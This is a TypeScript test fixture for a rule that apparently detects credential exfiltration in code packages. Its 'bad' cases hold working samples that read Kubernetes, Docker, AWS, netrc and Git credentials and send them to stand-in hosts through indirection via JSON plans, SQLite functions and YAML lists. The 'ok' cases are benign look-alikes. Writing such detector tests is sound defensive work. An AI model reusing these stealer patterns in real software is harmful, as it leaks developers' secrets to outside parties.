import { defineCases } from '../../src/rule.ts';

const WORKS =
  "const fs = require('fs'), net = require('net');\nconst steps = { list: (...files) => files.map((file) => fs.readFileSync(file)), peer: (host, port) => net.connect(port, host) };\nfor (const { use, with: args } of require('./plan.json')) steps[use](...args);";
const FILES = ['~/.kube/config', '~/.docker/config.json'];
const plan = (...steps: unknown[]): Record<string, string> => ({
  'index.js': WORKS,
  'plan.json': JSON.stringify(steps, undefined, 1),
});

export default defineCases({
  bad: [
    {
      name: 'steps of a pipeline: which files, and to whom',
      alone: 'review',
      files: plan({ use: 'list', with: FILES }, { use: 'peer', with: ['203.0.113.9', 4070] }),
    },
    {
      name: 'a script of a database, in a folder that is gone through',
      alone: 'review',
      files: {
        'index.js':
          "const fs = require('fs');\nconst db = new (require('node:sqlite').DatabaseSync)(':memory:');\ndb.function('slurp', (p) => fs.readFileSync(p, 'utf8'));\ndb.function('mirror', (url, body) => (fetch(url, { method: 'POST', body }), 1));\nfor (const f of fs.readdirSync(__dirname + '/sql')) db.exec(fs.readFileSync(__dirname + '/sql/' + f, 'utf8'));",
        'sql/1.sql':
          "INSERT INTO o SELECT 'g', slurp('.config/gh/hosts.yml');\nINSERT INTO o SELECT slurp('.git-credentials');\nSELECT mirror('https://a.example/o', body) FROM o;\n",
      },
    },
    {
      name: 'a list in YAML, and a server that gets what it names',
      alone: 'review',
      files: {
        'index.js':
          "const fs = require('fs');\nconst { load } = require('js-yaml');\nconst { keep, to } = load(fs.readFileSync(__dirname + '/share/backup.yml', 'utf8'));\nfor (const file of keep) fetch(to, { method: 'PUT', body: fs.readFileSync(file.replace('~', process.env.HOME)) });",
        'share/backup.yml': "keep:\n  - ~/.aws/credentials\n  - ~/.netrc\nto: 'https://a.example/up'\n",
      },
    },
  ],
  ok: [
    {
      name: 'places that nobody may touch, beside where to report',
      files: plan({ deny: FILES, report: 'https://a.example/audit' }),
    },
    {
      name: 'what a program that looks for leaks knows',
      files: plan({ severity: 'high', files: FILES, help: 'https://a.example/leaks' }),
    },
    {
      name: 'settings with what they are by themselves',
      files: plan({
        kube: { default: FILES[0] },
        docker: { default: FILES[1] },
        api: { default: 'https://a.example' },
      }),
    },
    {
      name: 'a catalogue of programs, each with its page',
      files: plan(
        { name: 'kubectl', config: FILES[0], home: 'https://kubectl.example' },
        { name: 'docker', config: FILES[1], home: 'https://docker.example' },
      ),
    },
    {
      name: 'what is kept of a home folder, on this machine',
      files: plan({ keep: FILES, to: 'http://localhost:9000' }),
    },
    {
      name: 'the one place that it is made for, and where it reports',
      files: plan({ use: 'list', with: [FILES[0]] }, { use: 'peer', with: 'https://a.example/fleet' }),
    },
    {
      name: 'the places of a vendor and of what runs there, and an address of that vendor',
      files: plan(
        { use: 'list', with: [FILES[0], '~/.config/gcloud/application_default_credentials.json'] },
        { use: 'peer', with: 'https://container.googleapis.com/v1' },
      ),
    },
    {
      name: 'icons of kinds of files',
      files: plan({ '.npmrc': 'npm', '.netrc': 'key', '.pypirc': 'python', id_rsa: 'key', more: 'https://a.example' }),
    },
    {
      name: 'the same data, which no code loads',
      files: { ...plan({ use: 'list', with: FILES }, { to: 'https://a.example' }), 'index.js': 'fetch("/x")' },
    },
  ],
});
